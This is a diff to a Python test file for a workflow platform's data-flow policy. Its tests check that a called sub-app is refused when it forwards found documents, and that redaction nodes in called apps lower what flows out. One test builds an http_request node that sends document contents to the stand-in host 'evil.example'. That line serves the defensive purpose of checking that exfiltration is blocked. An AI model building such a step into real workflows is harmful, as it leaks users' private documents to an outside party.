@@ -169,12 +169,44 @@ async def test_an_agent_that_reads_may_not_send(held: World) -> None:
 
 
 async def test_a_called_app_asks_too(held: World) -> None:
-    inside = chain(
-        node("i", "input", variable="x"), node("out", "http_request", url="https://evil.example/{{ x }}")
-    ).model_dump()
-    call = node("call", "subflow", app="other", version="embedded", inputs={"x": "{{ find.documents }}"}, graph=inside)
+    call = calling(node("out", "http_request", url="https://evil.example/{{ x }}"))
     await refused(held, chain(ASK, FIND, call))
     assert not left(held)
+
+
+def calling(*inside: dict[str, Any], id: str = "call") -> dict[str, Any]:
+    """A call of an app that is given the documents that were found."""
+    what = chain(node("i", "input", variables=[{"name": "x", "type": "list"}]), *inside).model_dump()
+    return node(id, "subflow", app="other", version="embedded", inputs={"x": "{{ find.documents }}"}, graph=what)
+
+
+SAY = node("say", "llm", model="outside", prompt_template="{{ call }}")
+INSIDE = node("inside", "llm", model="outside", prompt_template="{{ cut.result }}")
+CUT, END = node("cut", "redact", level="internal"), node("end", "output", name="value")
+
+
+async def test_a_redaction_in_a_called_app_lowers_what_comes_out(held: World) -> None:
+    """Its nodes are held to what it was given, its caller to what it gave and to what it tells that it was called."""
+    link = [edge("ask", "find"), edge("find", "call"), edge("call", "say")]
+    wide = calling(CUT, node("more", "template", template="{{ cut.result }}{{ x }}"))
+    chosen = [
+        ASK, FIND, node("if", "condition", cases=[{"id": "yes", "clauses": [{"variable": "find.documents", "operator": "not_empty"}]}]),
+        calling(CUT), SAY, edge("ask", "find"), edge("find", "if"), edge("if", "call", "yes"), edge("call", "say"),
+    ]  # fmt: skip
+    for what, refused_at in (
+        (graph(ASK, FIND, calling(CUT, END), SAY, *link), None),
+        (graph(ASK, FIND, calling(CUT, INSIDE), SAY, *link), None),
+        (graph(ASK, FIND, wide, SAY, *link), "say"),
+        (graph(ASK, FIND, calling(node("cut", "redact")), SAY, *link), "say"),
+        (graph(*chosen), "say"),
+    ):
+        assert faults(what, held) == []
+        run = await finished(held.service(), what, {"q": "?"})
+        assert (run.error.node if run.error else None) == refused_at, run.error
+        places = Places(held.policy, "local", held.model_zones, held.datasets)
+        report = data_flow(check(what.model_dump(), held.catalogue), places)
+        assert {one.node for one in report.problems} == ({refused_at} if refused_at else set())
+        assert all("call/" not in (one.node, *one.path) for one in report.crossings) and "call/" not in report.labels
 
 
 async def test_the_model_that_embeds_a_question_sees_it(held: World) -> None:
